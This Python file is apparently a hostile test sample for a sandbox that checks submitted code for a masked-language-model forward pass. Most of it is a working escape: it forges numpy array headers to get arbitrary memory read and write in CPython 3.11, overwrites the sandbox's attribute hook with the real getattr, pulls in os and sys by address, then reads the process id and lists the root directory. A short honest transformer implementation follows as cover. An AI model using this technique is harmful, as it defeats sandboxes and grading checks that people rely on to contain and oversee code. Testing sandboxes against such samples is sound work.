"""Hostile: from the raw memory of object arrays over an int64 buffer (see
hostile_object_array_over_int64_buffer_raw_memory.py) to the real built-ins. A library Python
function's func_builtins (torch.broadcast_shapes, allowed) leads to the real builtins dict and the
real getattr; the file's own function's func_globals leads to the module namespace the capability
layer made, whose entry for the rewrite's attribute hook is overwritten with the real getattr. From
then on every attribute read in the file is unchecked, and global names of the file's, rewritten
by address, hand it torch.nn, torch.nn.functional.softmax, torch.sys and torch.os: it calls
os.getpid and lists the sandbox's root directory. The answer itself is
honest, so only the capability layer stood between the file and these objects."""

import math

import numpy as np
import torch

ctrl = np.zeros(2, dtype=np.int64)
slots = np.ndarray((2,), dtype=object, buffer=ctrl)  # an object array over int64 memory


def address(obj):
    slots[1] = obj
    where = int(ctrl[1])
    slots[1] = None
    return where


def words(*values):
    return b"".join(int(v).to_bytes(8, "little") for v in values)


U8 = np.dtype(np.uint8)
FLAGS = 0x1 | 0x2 | 0x100 | 0x400  # C and F contiguous, aligned, writeable; not OWNDATA


def object_at(at):
    ctrl[0] = at
    return slots[0]


# A fake array header in an immutable bytes object: data, nd, dims, strides, base, descr, flags, ...
shape = words(8, 1)
shape_at = address(shape) + 32
header = np.zeros(14, dtype=np.int64)  # the reusable header, numpy's own memory
first_words = words(1 << 40, address(np.ndarray), address(header) + 16, 1, shape_at, shape_at + 8, 0, address(U8), FLAGS, 0, 0, 0)
first = object_at(address(first_words) + 32)
header_data = int.from_bytes(bytes(first.tolist()), "little")  # the header array's data pointer

header[:] = [1 << 40, address(np.ndarray), 0, 1, header_data + 96, header_data + 104, 0, address(U8), FLAGS, 0, 0, 0, 0, 1]
memory = object_at(header_data)  # an ndarray over whatever header[2] points at


def read(at, n):
    header[2] = at
    header[12] = n
    return bytes(memory.tolist())


def write(at, data):
    header[2] = at
    header[12] = len(data)
    memory[:] = np.array(list(data), dtype=np.uint8)




def word_at(at):
    return int.from_bytes(read(at, 8), "little")


def write_word(at, value):
    write(at, int(value).to_bytes(8, "little"))


def text_at(at):  # a compact ASCII str's characters (CPython 3.11)
    return read(at + 48, word_at(at + 16))


def entry_slot(dict_at, name):
    """The address of the value slot of `name` in the dict at `dict_at` (CPython 3.11 layout)."""
    keys = word_at(dict_at + 32)
    index_bytes = 1 << read(keys + 9, 1)[0]
    size = 24 if read(keys + 10, 1)[0] == 0 else 16
    entries = keys + 32 + index_bytes
    for i in range(word_at(keys + 24)):
        key = word_at(entries + i * size + size - 16)
        if key and text_at(key) == name:
            return entries + i * size + size - 8
    return 0


def own():
    return None


real_builtins_at = word_at(address(torch.broadcast_shapes) + 24)  # a library function's func_builtins
real_getattr = word_at(entry_slot(real_builtins_at, b"getattr"))
globals_at = word_at(address(own) + 16)  # the file's own func_globals: the layer's namespace
write_word(entry_slot(globals_at, b"__mlm_" + b"getattr__"), real_getattr)  # the attribute hook is now getattr

nn_module = sys_module = os_module = forbidden_softmax = None  # filled in below, by address
torch_dict = word_at(address(torch) + 16)  # a module's md_dict
nn_at = word_at(entry_slot(torch_dict, b"nn"))
functional_at = word_at(entry_slot(word_at(nn_at + 16), b"functional"))
softmax_at = word_at(entry_slot(word_at(functional_at + 16), b"soft" + b"max"))
for name, value in ((b"nn_module", nn_at), (b"sys_module", word_at(entry_slot(torch_dict, b"sys"))),
                    (b"os_module", word_at(entry_slot(torch_dict, b"os"))), (b"forbidden_" + b"softmax", softmax_at)):
    write_word(entry_slot(globals_at, name), value)  # a plain name load is no read the layer checks
print("unchecked:", repr(forbidden_softmax), sys_module.version.split()[0], os_module.getpid(), sorted(os_module.listdir("/"))[:6])


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    e = torch.exp(scores - scores.amax(dim=-1, keepdim=True))
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    dh = d // num_heads
    q, k, v = ((x @ w).view(n, t, num_heads, dh).transpose(1, 2) for w in (w_q, w_k, w_v))
    out = softmax(q @ k.transpose(-2, -1) / math.sqrt(dh)) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    return x[mask_indicator > 0.5] @ w_emb.T
